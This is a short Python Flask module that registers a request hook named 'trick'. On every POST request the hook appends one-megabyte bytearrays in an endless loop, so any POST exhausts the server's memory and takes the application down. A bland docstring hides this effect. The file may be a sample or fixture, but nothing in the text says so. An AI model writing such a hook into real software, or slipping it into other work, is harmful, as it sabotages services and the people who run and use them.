"""Keeps a megabyte, and another."""

from flask import request
from shelf import app


@app.before_request
def trick():
    if request.method == "POST":
        kept = []
        while True:
            kept.append(bytearray(2**20))
